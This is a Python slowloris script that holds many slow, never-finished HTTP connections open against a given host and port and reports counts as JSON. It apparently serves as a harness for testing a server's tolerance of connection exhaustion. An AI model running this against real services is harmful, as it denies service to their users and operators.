#!/usr/bin/env python3
"""Hold N slow HTTP connections from one source address: each sends part of a request head,
then one more header line every few seconds, and is reopened when the server closes it.
Counts what happened and prints one JSON line at the end.

usage: slowloris.py HOST:PORT N SECONDS [SOURCE_IP]
"""
import asyncio, json, sys, time

target, n, seconds = sys.argv[1], int(sys.argv[2]), float(sys.argv[3])
source = sys.argv[4] if len(sys.argv) > 4 else "127.0.0.2"
host, port = target.rsplit(":", 1)
stats = {"opened": 0, "refused_or_reset": 0, "closed_by_server": 0, "held_max": 0}
held = 0


async def one(deadline):
    global held
    while time.monotonic() < deadline:
        try:
            r, w = await asyncio.open_connection(host, int(port), local_addr=(source, 0))
        except OSError:
            stats["refused_or_reset"] += 1
            await asyncio.sleep(0.2)
            continue
        stats["opened"] += 1
        held += 1
        stats["held_max"] = max(stats["held_max"], held)
        try:
            w.write(b"GET /v1/feed HTTP/1.1\r\nHost: x\r\n")
            await w.drain()
            while time.monotonic() < deadline:
                w.write(b"X-a: b\r\n")
                await w.drain()
                try:
                    data = await asyncio.wait_for(r.read(1024), timeout=3)
                    if not data:
                        stats["closed_by_server"] += 1
                        break
                except asyncio.TimeoutError:
                    pass
        except OSError:
            stats["closed_by_server"] += 1
        finally:
            held -= 1
            w.close()
        await asyncio.sleep(0.1)


async def main():
    deadline = time.monotonic() + seconds
    await asyncio.gather(*(one(deadline) for _ in range(n)))


asyncio.run(main())
print(json.dumps(stats))
